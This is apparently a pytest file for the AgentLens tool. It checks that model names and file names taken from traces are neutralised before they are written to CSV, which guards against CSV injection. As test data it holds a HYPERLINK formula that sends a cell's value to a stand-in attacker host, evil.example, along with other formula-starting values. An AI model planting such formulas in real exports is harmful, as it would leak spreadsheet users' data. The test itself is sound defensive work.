"""Trace text in the CSV files AgentLens writes must stay text in a spreadsheet: a model name
`=HYPERLINK("http://...")` taken from a trace used to be written as it was, so opening
`score --csv` or `cohort --out rows.csv` ran it as a formula (CSV injection). Such a cell now
starts with `'`, and the rows read back (`cohort --rows`, `convert --scores`) are as scored."""

from __future__ import annotations

import csv
import json
import subprocess
from pathlib import Path

from agentlens.process.cohort_rows import read_annotation_rows, read_score_rows
from agentlens.spreadsheet_text import inert_cell, restored_cell
from tests import whole_process

TASK = "agentlens-bench-dev/trajectories/astropy__astropy-13236"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"gpt-4.1")'


def agentlens(*args: str) -> subprocess.CompletedProcess[str]:
    return whole_process.agentlens(*args, timeout=600)


def planted_task(data_dir: Path, tmp_path: Path) -> Path:
    """Copies of one task's real runs; one run's model is a formula, its file name starts `=`."""
    folder = tmp_path / "astropy__astropy-13236"
    folder.mkdir()
    runs = sorted((data_dir / TASK).glob("*.json"))
    for run in runs:
        (folder / run.name).write_bytes(run.read_bytes())
    doc = json.loads(runs[0].read_text())
    doc["metadata"]["model_name"] = FORMULA
    (folder / runs[0].name).unlink()
    (folder / f"=1+2-{runs[0].name}").write_text(json.dumps(doc))
    return folder


def starting_a_formula(path: Path) -> list[str]:
    with path.open(newline="") as fh:
        cells = [cell for row in csv.reader(fh) for cell in row]
    return [cell for cell in cells if cell[:1] in ("=", "+", "@") or cell.startswith("-=")]


def test_trace_text_in_a_written_csv_is_no_formula(data_dir: Path, tmp_path: Path) -> None:
    folder = planted_task(data_dir, tmp_path)
    reference = tmp_path / "ref.json"
    assert agentlens("reference", "build", "-o", str(reference), str(folder)).returncode == 0
    scored = tmp_path / "scored.csv"
    done = agentlens("score", "--reference", str(reference), "--csv", str(scored), str(folder))
    assert done.returncode == 0, done.stderr
    rows = tmp_path / "rows.csv"
    done = agentlens("cohort", str(folder), "--no-tables", "--out", str(rows))
    assert done.returncode == 0, done.stderr
    assert starting_a_formula(scored) == [] and starting_a_formula(rows) == []
    assert FORMULA in {r["model"] for r in read_annotation_rows(scored)}
    back = read_score_rows(str(rows))
    assert FORMULA in {r["model"] for r in back}
    assert any(str(r["trajectory_id"]).startswith("=1+2-") for r in back)


def test_a_cell_is_made_inert_and_restored_exactly() -> None:
    values = ["=1+2", "+1", "-x", "@SUM(A1)", "\tx", "\rx", "'=1", "''", "'", "plain", "", "a=b"]
    assert [restored_cell(inert_cell(v)) for v in values] == values
    assert [inert_cell(v)[:1] for v in values[:7]] == ["'"] * 7
    assert inert_cell(-0.5) == -0.5 and inert_cell("plain") == "plain"
